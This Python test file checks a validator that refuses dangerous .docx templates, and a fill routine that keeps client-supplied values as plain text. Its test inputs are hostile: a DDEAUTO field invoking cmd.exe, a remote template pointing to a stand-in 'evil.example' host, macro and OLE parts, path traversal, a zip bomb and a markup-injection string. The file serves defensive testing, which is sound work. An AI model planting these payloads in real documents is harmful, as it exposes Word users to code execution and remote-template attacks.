"""Files that may not become templates: each is refused with a sentence, and nothing in it runs."""

from __future__ import annotations

import io
import zipfile

import pytest

from b24app.documents.fill import fill
from b24app.documents.safety import CONTENT_TYPES, check_docx
from b24app.documents.templates import TEMPLATES
from b24app.errors import Mistaken

PLAIN = TEMPLATES[0].path("ru").read_bytes()
RELS = "word/_rels/document.xml.rels"


def packed(**changes: bytes | str) -> bytes:
    """Return a good template with parts added or replaced; `_` in a name stands for `/`."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name in source.namelist():
            if name not in changes:
                made.writestr(name, source.read(name))
        for name, content in changes.items():
            made.writestr(name, content)
    return target.getvalue()


def part(name: str) -> str:
    """Return a part of the good template."""
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as source:
        return source.read(name).decode()


def related(kind: str, target: str) -> dict[str, bytes | str]:
    """Return the document's relations with one more that leads outside."""
    line = f'<Relationship Id="rX" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return {RELS: part(RELS).replace("</Relationships>", line)}


def body(extra: str) -> dict[str, bytes | str]:
    """Return the document with something more in it."""
    return {"word/document.xml": part("word/document.xml").replace("<w:body>", f"<w:body>{extra}", 1)}


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda one: one.key)
@pytest.mark.parametrize("lang", ["ru", "en"])
def test_our_own_templates_are_safe(template: object, lang: str) -> None:
    """What we bring passes what we ask of others."""
    check_docx(template.path(lang).read_bytes())  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (b"hello", "a.docx", "не файл Word"),
        (PLAIN, "a.doc", "не файл Word"),
        (PLAIN[:2000], "a.docx", "не файл Word"),
        (packed(**{CONTENT_TYPES: "<Types/>"}), "a.docx", "не файл Word"),
        (packed(**{"../evil.xml": "<a/>"}), "a.docx", "не файл Word"),
        (packed(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "a.docx", "не файл Word"),
        (packed(**{"word/media/zeros.xml": b"\0" * 2**25}), "a.docx", "распаковывается"),
        (packed(**{f"word/p{number}.xml": "<a/>" for number in range(1001)}), "a.docx", "распаковывается"),
        (packed(**{"word/vbaProject.bin": b"macro"}), "a.docx", "макросы"),
        (packed(**{"word/embeddings/oleObject1.bin": b"x"}), "a.docx", "макросы"),
        (packed(**{CONTENT_TYPES: part(CONTENT_TYPES).replace("document.main", "document.macroEnabled.main")}), "a.docx", "макросы"),
        (packed(**related("attachedTemplate", "http://evil.example/t.dotm")), "a.docx", "внешняя ссылка (http://evil.example/t.dotm)"),
        (packed(**related("image", "file://server/share/a.png")), "a.docx", "внешняя ссылка"),
        (packed(**body("<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>")), "a.docx", "поле Word"),
        (packed(**body("<w:r><w:instrText>INCLUDE</w:instrText><w:instrText>PICTURE x</w:instrText></w:r>")), "a.docx", "поле"),
        (packed(**body('<w:altChunk r:id="rX"/>')), "a.docx", "поле Word"),
        (b"PK\x03\x04" + b"0" * (5 * 2**20), "a.docx", "больше 5 МБ"),
    ],
    ids=[
        "text", "doc", "cut", "kind", "path", "entities", "bomb", "parts", "macro", "ole",
        "macro kind", "remote template", "remote picture", "dde", "cut field", "chunk", "large",
    ],
)  # fmt: skip
def test_dangerous_file_is_refused_with_a_sentence(content: bytes, name: str, words: str) -> None:
    """Whoever chose it reads what to do, in his language."""
    with pytest.raises(Mistaken) as caught:
        check_docx(content, name)

    assert words in caught.value.sentence("ru")
    assert caught.value.sentence("en") != caught.value.sentence("ru")


def test_value_cannot_become_markup_or_another_code() -> None:
    """A client may be called anything: it stays text."""
    name = "</w:t><w:instrText>DDE</w:instrText>{OfferSum} {{7*7}} {% x %} & <b>"

    made = fill(PLAIN, {"OfferClient": name, "OfferSum": "100"})

    check_docx(made)
    with zipfile.ZipFile(io.BytesIO(made)) as file:
        text = file.read("word/document.xml").decode()
    assert "&lt;/w:t&gt;&lt;w:instrText&gt;DDE" in text
    assert "{OfferSum} {{7*7}} {% x %}" in text
